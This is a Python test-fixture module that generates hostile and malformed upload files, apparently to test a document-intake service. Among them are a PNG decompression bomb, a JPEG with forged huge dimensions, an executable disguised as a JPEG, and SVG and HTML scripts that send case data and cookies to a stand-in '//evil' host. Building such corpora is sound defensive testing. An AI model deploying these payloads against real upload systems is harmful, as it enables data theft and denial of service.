"""A corpus of hostile and broken files, generated on the fly (nothing binary is checked in).

Each maker returns the bytes of one file. ``HOSTILE_FILES`` maps a file name
(as a sponsor's phone might name it) to its maker.
"""

from __future__ import annotations

import io
import struct
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

import pypdf
import pypdfium2
from PIL import Image, ImageDraw


def photo_with_text(size=(900, 600)) -> bytes:
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).text((40, 40), "REPUBLIC OF NOWHERE  BIRTH CERTIFICATE", fill="black")
    output = io.BytesIO()
    image.save(output, "JPEG", quality=90)
    return output.getvalue()


def zero_bytes() -> bytes:
    return b""


def truncated_jpeg() -> bytes:
    data = photo_with_text()
    return data[: len(data) // 2]


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_decompression_bomb(side: int = 12_000) -> bytes:
    """A real, complete greyscale PNG of side × side black pixels: ~100 KB that decode to ~144 MB."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (side + 1)  # filter byte + one byte per pixel
    compressed = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", compressed) + _png_chunk(b"IEND", b"")


def huge_dimensions_jpeg(width: int = 30_000, height: int = 30_000) -> bytes:
    """A JPEG whose frame header claims 30,000 × 30,000 pixels (900 megapixels)."""
    data = bytearray(photo_with_text((64, 64)))
    at = data.index(b"\xff\xc0")  # baseline frame header: marker, length, precision, height, width
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def pdf_with_pages(count: int) -> bytes:
    pdf = pypdfium2.PdfDocument.new()
    for _ in range(count):
        pdf.new_page(595, 842).close()
    output = io.BytesIO()
    pdf.save(output)
    pdf.close()
    return output.getvalue()


def encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("family-secret", algorithm="RC4-128")  # pure Python in pypdf; pdfium asks for the password
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def svg_with_script() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b'<script>fetch("/cases/").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</script></svg>')


def html_with_script() -> bytes:
    return b"<!doctype html><html><body><script>document.location='//evil/?c='+document.cookie</script></body></html>"


def executable_named_jpg() -> bytes:
    with Path(sys.executable).resolve().open("rb") as executable:
        return executable.read(64 * 1024)  # a real ELF header and code


POLYGLOT_PAYLOAD = b"<html><script>alert(document.domain)</script></html>"


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG with an HTML page (and a ZIP's end record) appended: opens as both."""
    return photo_with_text() + POLYGLOT_PAYLOAD + b"PK\x05\x06" + b"\x00" * 18


def oversized_file(size: int) -> bytes:
    return photo_with_text() + b"\x00" * size


HOSTILE_FILES: dict[str, Callable[[], bytes]] = {
    "empty.jpg": zero_bytes,
    "half.jpg": truncated_jpeg,
    "bomb.png": png_decompression_bomb,
    "huge.jpg": huge_dimensions_jpeg,
    "book.pdf": lambda: pdf_with_pages(500),
    "locked.pdf": encrypted_pdf,
    "drawing.svg": svg_with_script,
    "page.html": html_with_script,
    "photo.jpg": executable_named_jpg,
    "polyglot.jpg": jpeg_html_polyglot,
}


def write_corpus(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, make in HOSTILE_FILES.items():
        paths[name] = folder / name
        paths[name].write_bytes(make())
    return paths
